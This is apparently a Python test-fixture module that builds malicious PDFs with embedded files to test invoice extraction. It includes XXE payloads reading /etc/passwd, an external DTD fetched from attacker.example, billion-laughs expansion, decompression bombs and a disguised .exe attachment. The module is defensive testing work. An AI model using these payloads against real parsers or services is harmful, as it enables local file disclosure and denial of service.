"""PDFs that carry other files."""

from __future__ import annotations

import zlib

from tests.support.hostile.parts import CATALOG, FLATE, MIB, WORDS, deflated, one_page, stream, text
from tests.unit.convert.small_invoice import an_invoice

LAUGHS = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{level} '{f'&a{level - 1};' * 10}'>" for level in range(1, 12))
    + "]>"
)


def carrying(*files: tuple[bytes, bytes, bytes], more: bytes = b"") -> bytes:
    """Each file by its name, its bytes as they lie there, and the entries of their stream."""
    names = b" ".join(
        b"(%s) << /Type /Filespec /F (%s) /UF (%s) /EF << /F %d 0 R >> >>" % (name, name, name, number)
        for number, (name, _, _) in enumerate(files, 5)
    )
    catalog = CATALOG[:-2] + b"/Names << /EmbeddedFiles << /Names [%s] >> >> %s >>" % (names, more)
    return one_page(WORDS, *(stream(content, entries) for _, content, entries in files), catalog=catalog)


def carrying_xml(xml: bytes) -> bytes:
    return carrying((b"factur-x.xml", zlib.compress(xml), FLATE))


def program() -> bytes:
    return carrying((b"invoice.pdf.exe", b"MZ" + b"\0" * 4096, b""))


def portfolio() -> bytes:
    inner = one_page(text(b"inner words"))
    return carrying((b"inner.pdf", inner, b""), more=b"/Collection << /Type /Collection /View /T >>")


def thousands_of_files() -> bytes:
    names = b"".join(
        b"(f%d) << /F (f%d) /EF << /F 5 0 R >> >> " % (number, number) for number in range(100_000)
    )
    catalog = CATALOG[:-2] + b"/Names << /EmbeddedFiles << /Names [%s] >> >> >>" % names
    return one_page(WORDS, stream(b"x"), catalog=catalog)


def circular_names() -> bytes:
    catalog = CATALOG[:-2] + b"/Names << /EmbeddedFiles 5 0 R >> >>"
    return one_page(WORDS, b"<< /Kids [5 0 R 5 0 R] /Limits [(a) (z)] >>", catalog=catalog)


def lost_invoice() -> bytes:
    """Named, and not there."""
    return carrying((b"factur-x.xml", b"", b"")).replace(b"/EF << /F 5 0 R >>", b"/EF << /F 9 0 R >>")


def altered_invoice() -> bytes:
    """Valid by its schema, and not what was attached: its checksum tells."""
    true, other = (zlib.compress(an_invoice().replace(b"Seller<", name)) for name in (b"Seller<", b"Selfer<"))
    return carrying((b"factur-x.xml", other[:-4] + true[-4:], FLATE))


def bomb_as_invoice() -> bytes:
    """Four gigabytes of blanks."""
    return carrying((b"factur-x.xml", deflated(b" " * MIB, 4000), FLATE))


def large_invoice() -> bytes:
    """It has room in memory, and is more than an invoice may be."""
    return carrying((b"factur-x.xml", deflated(b" " * MIB, 70), FLATE))


def bombs_beside_invoice() -> bytes:
    """More than there is room for, and none of it asked for."""
    bombs = [(b"%02d.bin" % number, deflated(b" " * MIB, 60), FLATE) for number in range(20)]
    return carrying(*bombs, (b"factur-x.xml", an_invoice(), b""))


def _declaring(declared: str, old: str = "R-1", new: str = "R-1") -> bytes:
    """A valid invoice but for its document type, and what is said by means of that."""
    head, end, body = an_invoice().decode().partition("?>")
    return carrying_xml(f"{head}{end}{declared}{body.replace(old, new)}".encode())


def invoice_with_document_type() -> bytes:
    return _declaring("<!DOCTYPE x>")


def invoice_with_file_of_ours() -> bytes:
    return _declaring('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>', new="&f;")


def invoice_with_trap_for_others() -> bytes:
    """Harmless here, where nobody asks for the entity."""
    return _declaring('<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>')


def invoice_with_outer_type() -> bytes:
    outer = "http://attacker.example/x.dtd"
    return _declaring(f'<!DOCTYPE x SYSTEM "{outer}" [<!ENTITY % p SYSTEM "{outer}"> %p;]>')


def invoice_with_laughs() -> bytes:
    return _declaring(LAUGHS, new="&a11;")


def invoice_with_laughs_in_attribute() -> bytes:
    return _declaring(LAUGHS, old='format="102"', new='format="&a11;"')


def deep_invoice() -> bytes:
    return _invoice_with("<ram:ID>" * 100_000 + "</ram:ID>" * 100_000)


def wide_invoice() -> bytes:
    return _invoice_with("<ram:ID>R-1</ram:ID>" * 2_000_000)


def _invoice_with(more: str) -> bytes:
    return carrying_xml(an_invoice().replace(b"<ram:ID>R-1</ram:ID>", more.encode()))


def invoice_of_attributes() -> bytes:
    return carrying_xml(b"<a %s/>" % b" ".join(b'a%d="1"' % number for number in range(500_000)))


def long_invoice() -> bytes:
    return carrying_xml(an_invoice().replace(b"R-1", b"R" * 40_000_000))


def unfinished_invoice() -> bytes:
    return carrying_xml(an_invoice()[:-40])


def empty_invoice() -> bytes:
    return carrying((b"factur-x.xml", b"", b""))
